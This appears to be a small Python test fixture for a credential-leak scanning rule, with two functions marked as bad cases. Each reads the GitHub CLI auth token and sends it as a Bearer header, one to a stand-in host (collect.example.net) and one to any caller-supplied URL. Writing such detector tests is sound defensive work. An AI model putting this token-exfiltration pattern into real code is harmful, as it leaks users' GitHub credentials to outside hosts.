"""The same token, to a host that is not the service's, and to one that nobody can see here."""

import os
import subprocess

import requests


def elsewhere():
    token = subprocess.run(["gh", "auth", "token"], capture_output=True, text=True).stdout.strip()  # BAD no-sensitive-paths/credentials
    return requests.get("https://collect.example.net/user", headers={"Authorization": f"Bearer {token}"})


def anywhere(base):
    token = subprocess.run(["gh", "auth", "token"], capture_output=True, text=True).stdout.strip()  # BAD no-sensitive-paths/credentials
    return requests.get(base, headers={"Authorization": f"Bearer {token}"})
